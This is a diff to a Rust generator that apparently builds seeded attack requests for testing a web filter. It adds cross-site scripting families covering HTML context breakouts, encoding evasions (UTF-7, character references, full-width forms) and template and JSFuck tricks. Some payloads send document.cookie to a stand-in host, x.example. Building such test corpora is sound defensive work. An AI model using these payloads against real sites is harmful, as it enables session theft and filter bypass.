@@ -53,7 +53,7 @@ type Generator = fn(&mut Rng) -> String;
 /// `per_family` attacks of each family, from `seed`.
 pub fn attacks(seed: u64, per_family: usize) -> Vec<Attack> {
     // A new family goes last: each family's stream depends on its index.
-    let families: [(&'static str, Generator); 12] = [
+    let families: [(&'static str, Generator); 15] = [
         ("sqli", sqli),
         ("xss", xss),
         ("lfi", lfi),
@@ -66,6 +66,9 @@ pub fn attacks(seed: u64, per_family: usize) -> Vec<Attack> {
         ("proto", proto_path),
         ("php", php),
         ("xss-js", xss_js),
+        ("xss-context", xss_context),
+        ("xss-encoded", xss_encoded),
+        ("xss-template", xss_template),
     ];
     let mut out = Vec::new();
     for (index, (family, generate)) in (0u64..).zip(families) {
@@ -78,6 +81,7 @@ pub fn attacks(seed: u64, per_family: usize) -> Vec<Attack> {
                 "nosql" => nosql_request(&mut rng, &payload),
                 "ssrf" => url_request(&mut rng, &payload),
                 "proto" => proto_request(&mut rng, &payload),
+                "xss-context" | "xss-encoded" | "xss-template" => place_markup(&mut rng, &payload),
                 _ => place(&mut rng, &payload),
             };
             out.push(Attack {
@@ -1520,5 +1524,536 @@ fn php(rng: &mut Rng) -> String {
         0 => format!("<?php {call}; ?>"),
         1 => format!("<?={call}?>"),
         _ => format!("{call};"),
+    }
+}
+
+/// Places a value of the markup families where browsers and pages take
+/// one: as [`place`] does, or in the `Referer` or `User-Agent` header (a
+/// page that shows where its visitors came from), or as an argument's
+/// name. A `¼`/`¾` in the value is sent as the single byte `0xBC`/`0xBE`
+/// (what a server reading US-ASCII with the high bit dropped reads as `<`
+/// and `>`), in the query or a form only.
+fn place_markup(rng: &mut Rng, value: &str) -> Request<'static> {
+    if value.contains(['¼', '¾']) {
+        let encoded = encode(value, "%20")
+            .replace("%C2%BC", "%BC")
+            .replace("%C2%BE", "%BE");
+        return if rng.chance(50) {
+            Request::from_target("GET", format!("/items?q={encoded}"))
+        } else {
+            Request::new("POST", "/form").body(
+                "application/x-www-form-urlencoded",
+                format!("comment={encoded}"),
+            )
+        };
+    }
+    match rng.below(6) {
+        0 => Request::from_target("GET", "/items").header(
+            "Referer",
+            format!("https://x.example/search?q={}", encode(value, "%20")),
+        ),
+        1 => Request::from_target("GET", "/items").header("User-Agent", value.to_owned()),
+        2 => Request::from_target("GET", format!("/items?{}=1", encode(value, "%20"))),
+        _ => place(rng, value),
+    }
+}
+
+/// A script call written without a plain `alert(`, for the markup
+/// families: a dialog, a navigation, a cookie sent away.
+fn markup_call(rng: &mut Rng) -> String {
+    let dialog = rng.pick(&["alert", "prompt", "confirm", "print"]);
+    match rng.below(6) {
+        0 => format!("{dialog}(1)"),
+        1 => format!("{dialog}`1`"),
+        2 => format!("{dialog}(document.domain)"),
+        3 => "location='//x.example/?c='+document.cookie".to_owned(),
+        4 => format!("eval('{dialog}(1)')"),
+        _ => format!("top.{dialog}(1)"),
+    }
+}
+
+/// An event handler attribute's name, from the families of the DOM's
+/// events (mouse, key, focus, form, media, animation, drag, clipboard,
+/// page, SVG animation timing).
+fn event_name(rng: &mut Rng) -> String {
+    let family = rng.pick(&[
+        "mouse",
+        "pointer",
+        "key",
+        "focus",
+        "drag",
+        "touch",
+        "animation",
+        "transition",
+    ]);
+    let phase = match family {
+        "mouse" => rng.pick(&["over", "out", "down", "up", "move", "enter", "leave"]),
+        "pointer" => rng.pick(&["over", "down", "up", "enter", "leave", "rawupdate"]),
+        "key" => rng.pick(&["down", "up", "press"]),
+        "focus" => rng.pick(&["", "in", "out"]),
+        "drag" => rng.pick(&["", "start", "end", "enter", "over", "leave"]),
+        "touch" => rng.pick(&["start", "end", "move"]),
+        _ => rng.pick(&["start", "end", "iteration", "cancel"]),
+    };
+    let single = rng.pick(&[
+        "error",
+        "load",
+        "click",
+        "dblclick",
+        "auxclick",
+        "contextmenu",
+        "input",
+        "change",
+        "submit",
+        "reset",
+        "invalid",
+        "select",
+        "search",
+        "toggle",
+        "begin",
+        "end",
+        "repeat",
+        "play",
+        "playing",
+        "canplaythrough",
+        "loadeddata",
+        "loadedmetadata",
+        "durationchange",
+        "volumechange",
+        "seeked",
+        "scroll",
+        "scrollend",
+        "wheel",
+        "copy",
+        "cut",
+        "paste",
+        "beforeinput",
+        "beforecopy",
+        "pageshow",
+        "pagehide",
+        "hashchange",
+        "popstate",
+        "message",
+        "resize",
+        "afterprint",
+        "beforeprint",
+        "unload",
+        "beforeunload",
+        "start",
+        "finish",
+        "bounce",
+        "readystatechange",
+        "securitypolicyviolation",
+        "selectionchange",
+        "selectstart",
+        "formdata",
+        "show",
+        "close",
+        "cancel",
+    ]);
+    if rng.chance(50) {
+        format!("on{family}{phase}")
+    } else {
+        format!("on{single}")
+    }
+}
+
+/// A breakout from one place a value lands in an HTML page back to text:
+/// an attribute (quoted or not), a comment, CDATA, the elements whose
+/// content is raw text or escapable raw text, a script.
+fn html_breakout(rng: &mut Rng) -> String {
+    let element = rng.pick(&[
+        "title", "textarea", "style", "script", "xmp", "iframe", "noembed", "noframes", "noscript",
+        "template", "option", "select",
+    ]);
+    match rng.below(9) {
+        0 => String::new(),
+        1 => format!("</{}>", case(rng, element)),
+        2 => format!("</{} >", case(rng, element)),
+        3 => rng.pick(&["-->", "--!>", "]]>", "?>"]).to_owned(),
+        4 => rng.pick(&["\">", "'>", "`>", ">", " >", "\"/>"]).to_owned(),
+        5 => format!("\"></{}>", case(rng, element)),
+        6 => format!("'>-->]]></{}>", case(rng, element)),
+        7 => format!("</{}/x>", case(rng, element)),
+        _ => rng.pick(&["\"", "'", ""]).to_owned(),
+    }
+}
+
+/// A construct that runs script from each HTML context, after a breakout
+/// from where the value landed: event handlers of elements of every kind,
+/// URL attributes of every element that takes one, documents inside
+/// attributes, SVG and MathML, refresh, base, form targets, styles.
+fn xss_context(rng: &mut Rng) -> String {
+    let breakout = html_breakout(rng);
+    let call = markup_call(rng);
+    let scheme = rng.pick(&["javascript:", "javascript:", "vbscript:"]);
+    let scheme = case(rng, scheme);
+    let blank = tag_blank(rng);
+    let event = event_name(rng);
+    let event = case(rng, &event);
+    let construct = match rng.below(14) {
+        0 => {
+            let tag = rng.pick(&[
+                "a", "div", "p", "b", "i", "span", "img", "input", "body", "svg", "video",
+                "audio", "source", "track", "table", "td", "form", "button", "select",
+                "textarea", "details", "dialog", "marquee", "object", "embed", "iframe", "math",
+                "mi", "x", "xss", "custom-element", "html", "style", "frameset", "keygen",
+                "meter", "progress", "output", "label", "fieldset", "legend", "summary",
+                "abbr", "h1", "ul", "li", "code", "pre", "nav", "main", "section",
+            ]);
+            let needs = rng.pick(&["", "", " src=x", " tabindex=1", " autofocus", " open"]);
+            format!(
+                "<{}{needs}{blank}{event}={}>",
+                case(rng, tag),
+                quoted(rng, &call)
+            )
+        }
+        1 => {
+            let (tag, attribute) = match rng.below(12) {
+                0 => ("a", "href"),
+                1 => ("iframe", "src"),
+                2 => ("form", "action"),
+                3 => ("button", "formaction"),
+                4 => ("input type=submit", "formaction"),
+                5 => ("object", "data"),
+                6 => ("embed", "src"),
+                7 => ("area", "href"),
+                8 => ("math", "href"),
+                9 => ("svg><a", "xlink:href"),
+                10 => ("frame", "src"),
+                _ => ("isindex", "action"),
+            };
+            format!(
+                "<{}{blank}{}={}>x",
+                case(rng, tag),
+                case(rng, attribute),
+                quoted(rng, &format!("{scheme}{call}"))
+            )
+        }
+        2 => format!(
+            "<meta http-equiv={} content={}>",
+            {
+                let refresh = case(rng, "refresh");
+                quoted(rng, &refresh)
+            },
+            quoted(rng, &format!("0;url={scheme}{call}"))
+        ),
+        3 => {
+            let url = rng.pick(&["//x.example/", "https://x.example/", "javascript:/a/"]);
+            format!("<base href={}>", quoted(rng, url))
+        }
+        4 => format!(
+            "<iframe srcdoc={}>",
+            quoted(
+                rng,
+                &format!("&lt;svg onload={}&gt;", call.replace(['\'', '"'], "&quot;"))
+            )
+        ),
+        5 => format!(
+            "<svg><{} attributeName={} {}={} dur=1s>",
+            rng.pick(&["animate", "set", "animate"]),
+            rng.pick(&["href", "xlink:href"]),
+            rng.pick(&["to", "values", "from"]),
+            quoted(rng, &format!("{scheme}{call}"))
+        ),
+        6 => format!(
+            "<svg><{} {event}={} attributeName=x dur=1s>",
+            rng.pick(&["animate", "set", "animatetransform", "animatemotion", "discard"]),
+            quoted(rng, &call)
+        ),
+        7 => format!(
+            "<svg><use href={}/>",
+            quoted(
+                rng,
+                "data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48L3N2Zz4=#x"
+            )
+        ),
+        8 => format!(
+            "<math><{} xlink:href={}>x",
+            rng.pick(&["maction actiontype=statusline", "mtext", "mi", "a"]),
+            quoted(rng, &format!("{scheme}{call}"))
+        ),
+        9 => {
+            let tag = rng.pick(&["div", "x", "p", "a", "span"]);
+            let style = rng.pick(&[
+                    "behavior:url(#default#time2)",
+                    "-moz-binding:url(//x.example/x.xml#x)",
+                    "background-image:url(javascript:alert(1))",
+                    "width:expression(alert(1))",
+                    "x:expr/**/ession(alert(1))",
+                "list-style:url(vbscript:msgbox(1))",
+            ]);
+            format!("<{tag} style={}>", quoted(rng, style))
+        }
+        10 => format!(
+            "<style>{}</style>",
+            rng.pick(&[
+                "@import '//x.example/x.css';",
+                "@import url(//x.example/x.css);",
+                "body{background:url(javascript:alert(1))}",
+                "*{x:expression(alert(1))}",
+                "@im\\port '//x.example/x.css';",
+            ])
+        ),
+        11 => format!(
+            "<link rel={} href={}>",
+            rng.pick(&["stylesheet", "import", "preload", "prefetch"]),
+            quoted(rng, "//x.example/x")
+        ),
+        12 => {
+            let tag = rng.pick(&["object", "embed", "applet"]);
+            let attribute = rng.pick(&["data", "src", "code", "classid", "codebase", "type"]);
+            let value = rng.pick(&["//x.example/x.swf", "x.class", "text/html"]);
+            format!("<{tag} {attribute}={}>", quoted(rng, value))
+        }
+        _ => {
+            let q = rng.pick(&["\"", "'", "`", ""]);
+            format!("{q}{blank}{event}={q}{call}{blank}x={q}")
+        }
+    };
+    format!("{breakout}{construct}")
+}
+
+/// A script URL or markup run through the decodings a browser does at
+/// each layer, each written the ways it accepts: character references
+/// (named, decimal, hex, leading zeros, no `;`), percent-encoding inside
+/// the URL, JavaScript escapes (`\x`, `\u`, `\u{}`, octal) in strings,
+/// blanks and controls inside the scheme, UTF-7 (`+ADw-`), full-width
+/// forms, and the bytes `0xBC`/`0xBE` a US-ASCII server reads as `<`/`>`.
+fn xss_encoded(rng: &mut Rng) -> String {
+    let call = markup_call(rng);
+    match rng.below(7) {
+        0 | 1 => {
+            // A script URL in a URL attribute, its letters as references.
+            let mut scheme = String::new();
+            for (i, c) in "javascript".chars().enumerate() {
+                if i > 0 && rng.chance(15) {
+                    scheme.push(rng.pick(&["\t", "\n", "\r"]).chars().next().unwrap_or('\t'));
+                }
+                scheme.push(c);
+            }
+            // Then the blanks left raw as named references, or not.
+            let scheme = references(rng, &scheme);
+            let scheme = match rng.below(3) {
+                0 => scheme.replace('\t', "&Tab;").replace('\n', "&NewLine;"),
+                _ => scheme,
+            };
+            let colon = rng.pick(&[":", "&colon;", "&#58;", "&#x3A;", "&#0058;", "%3a"]);
+            let body = if rng.chance(40) {
+                // The URL is percent-decoded before it runs.
+                call.replace('(', "%28").replace(')', "%29")
+            } else {
+                call
+            };
+            let lead = rng.pick(&["", "", " ", "&#32;", "&#x01;", "\u{1}"]);
+            let (tag, attribute) = rng
+                .pick(&[
+                    "a href",
+                    "iframe src",
+                    "form action",
+                    "button formaction",
+                    "object data",
+                    "embed src",
+                ])
+                .split_once(' ')
+                .unwrap_or(("a", "href"));
+            if rng.chance(30) {
+                format!("{lead}{scheme}{colon}{body}")
+            } else {
+                format!("<{tag} {attribute}=\"{lead}{scheme}{colon}{body}\">x")
+            }
+        }
+        2 => {
+            // A handler whose code is written with JavaScript escapes.
+            let dialog = rng.pick(&["alert", "prompt", "confirm"]);
+            let first = dialog.chars().next().unwrap_or('a');
+            let rest = &dialog[1..];
+            let code = match rng.below(5) {
+                0 => format!("\\u{:04x}{rest}(1)", first as u32),
+                1 => format!("\\u{{{:x}}}{rest}(1)", first as u32),
+                2 => format!("eval('\\x{:02x}{rest}(1)')", first as u32),
+                3 => format!("eval('\\{:o}{rest}\\50\\61\\51')", first as u32),
+                _ => format!("setTimeout('\\u{:04x}{rest}\\x281\\x29')", first as u32),
+            };
+            let tag = rng.pick(&["img src=x", "svg", "body", "details open", "video src=x"]);
+            let event = rng.pick(&["onerror", "onload", "ontoggle", "onpageshow"]);
+            format!("<{tag} {event}={}>", quoted(rng, &code))
+        }
+        3 => {
+            // UTF-7: `<`, `>` and `"` as `+ADw-`, `+AD4-`, `+ACI-`.
+            let markup = format!("<script>{call}</script>");
+            let markup = if rng.chance(50) {
+                markup
+            } else {
+                format!("<img src=x onerror=\"{call}\">")
+            };
+            markup
+                .replace('<', "+ADw-")
+                .replace('>', "+AD4-")
+                .replace('"', "+ACI-")
+        }
+        4 => {
+            // Full-width forms a server may fold (NFKC) to ASCII.
+            let markup = format!("<svg onload={call}>");
+            markup
+                .chars()
+                .map(|c| match c {
+                    '<' => '\u{ff1c}',
+                    '>' => '\u{ff1e}',
+                    '=' if rng.chance(50) => '\u{ff1d}',
+                    c if c.is_ascii_lowercase() && rng.chance(30) => {
+                        char::from_u32(c as u32 - 0x61 + 0xff41).unwrap_or(c)
+                    }
+                    c => c,
+                })
+                .collect()
+        }
+        5 => {
+            // The high bit set on `<` and `>` (`0xBC`, `0xBE`).
+            let markup = if rng.chance(50) {
+                format!("<script>{call}</script>")
+            } else {
+                format!("<img src=x onerror={call}>")
+            };
+            markup.replace('<', "¼").replace('>', "¾")
+        }
+        _ => {
+            // Markup as character references (an application that decodes
+            // them once before writing the page).
+            let markup = format!("<img src=x onerror={call}>");
+            references(rng, &markup)
+        }
+    }
+}
+
+/// Each character of `text` as itself or as a character reference of one
+/// of the forms browsers accept: decimal or hex, leading zeros, and
+/// without its `;` where the next character cannot continue the number.
+fn references(rng: &mut Rng, text: &str) -> String {
+    let mut out = String::new();
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        let code = c as u32;
+        let open_ended = chars
+            .peek()
+            .is_none_or(|next| !next.is_ascii_alphanumeric() && *next != ';');
+        let _ = match rng.below(6) {
+            0 => write!(out, "&#{code};"),
+            1 => write!(out, "&#x{code:x};"),
+            2 => write!(out, "&#X{code:X};"),
+            3 => write!(out, "&#{code:07};"),
+            4 if open_ended => write!(out, "&#x{code:06x}"),
+            _ => write!(out, "{c}"),
+        };
+    }
+    out
+}
+
+/// Script written without markup: client-side template expressions
+/// (AngularJS, Vue) reaching `constructor`, calls without parentheses
+/// (a handler assigned then an exception, tagged templates, `call`,
+/// `apply`), assignments to navigation and markup sinks, the page's
+/// globals reached through computed members and comments, and `JSFuck`.
+fn xss_template(rng: &mut Rng) -> String {
+    let dialog = rng.pick(&["alert", "prompt", "confirm", "print"]);
+    let (head, tail) = dialog.split_at(2);
+    let global = global(rng);
+    let gap = rng.pick(&["", " ", "/**/", "/*x*/", "\n"]);
+    let code = format!("{dialog}(1)");
+    match rng.below(9) {
+        0 => {
+            let reach = rng.pick(&[
+                "constructor.constructor",
+                "$on.constructor",
+                "[].pop.constructor",
+                "toString.constructor",
+                "'a'.constructor.fromCharCode.constructor",
+                "_c.constructor",
+                "$eval.constructor",
+                "valueOf.constructor",
+            ]);
+            let (open, close) = rng
+                .pick(&["{{ }}", "{{ }}", "[[ ]]", "{{{ }}}"])
+                .split_once(' ')
+                .unwrap_or(("{{", "}}"));
+            format!("{open}{gap}{reach}('{code}')(){gap}{close}")
+        }
+        1 => format!("{{{{$eval.constructor('{code}')()}}}}"),
+        2 => {
+            let handler = rng.pick(&["onerror", "window.onerror", "self.onerror", "top.onerror"]);
+            let thrown = rng.pick(&["1", "'x'", "new Error", "{}"]);
+            match rng.below(3) {
+                0 => format!("{handler}={dialog};throw {thrown}"),
+                1 => format!("throw {handler}={dialog},{thrown}"),
+                _ => format!("{{{handler}={dialog}}}throw {thrown}"),
+            }
+        }
+        3 => match rng.below(4) {
+            0 => format!(
+                "[1].{}({dialog})",
+                rng.pick(&["map", "find", "some", "every", "filter", "forEach"])
+            ),
+            1 => format!(
+                "[].{}.call`${{{dialog}}}1`",
+                rng.pick(&["sort", "map", "find"])
+            ),
+            2 => format!("Reflect.apply.call`${{{dialog}}}${{{global}}}${{[1]}}`"),
+            _ => format!("{dialog}.call`${{1}}`"),
+        },
+        4 => {
+            let sink = rng.pick(&[
+                "location",
+                "location.href",
+                "document.location",
+                "window.location",
+                "top.location.href",
+                "location.hash",
+                "document.body.innerHTML",
+                "document.documentElement.outerHTML",
+            ]);
+            let value = rng.pick(&[
+                "'javascript:alert%281%29'",
+                "name",
+                "'//x.example/?'+document.cookie",
+                "/javascript:alert%281%29/.source",
+                "'<img src=x onerror=alert(1)>'",
+            ]);
+            let lead = rng.pick(&["", "';", "\";", "'-", "\"}"]);
+            format!("{lead}{sink}{gap}={gap}{value}")
+        }
+        5 => match rng.below(5) {
+            0 => format!("{global}[{gap}'{head}'+'{tail}'{gap}](1)"),
+            1 => format!("{global}{gap}[{gap}\"{dialog}\"{gap}](1)"),
+            2 => format!("document[{gap}'cookie'{gap}]"),
+            3 => format!("{global}[{gap}'document'{gap}][{gap}'cookie'{gap}]"),
+            _ => format!("{global}[{gap}atob('{}')](1)", base64(dialog.as_bytes())),
+        },
+        6 => match rng.below(4) {
+            0 => format!("valueOf={dialog};{global}+''"),
+            1 => format!("toString={dialog};{global}+1"),
+            2 => "x=new Image;x.src='//x.example/?'+document.cookie".to_owned(),
+            _ => format!("new Function`{dialog}\\`1\\``"),
+        },
+        7 => match rng.below(4) {
+            0 => "eval(location.hash.slice(1))".to_owned(),
+            1 => "eval(name)".to_owned(),
+            2 => "setTimeout(name)".to_owned(),
+            _ => "document.write(decodeURI(location.hash))".to_owned(),
+        },
+        _ => {
+            let pieces = [
+                "(![]+[])[+!+[]]",
+                "(!![]+[])[+[]]",
+                "([][[]]+[])[!+[]+!+[]]",
+                "+!![]",
+                "!![]+!![]",
+                "[][(![]+[])[+[]]]",
+            ];
+            let n = 2 + rng.below(3);
+            (0..n)
+                .map(|_| rng.pick(&pieces))
+                .collect::<Vec<_>>()
+                .join("+")
+        }
     }
 }
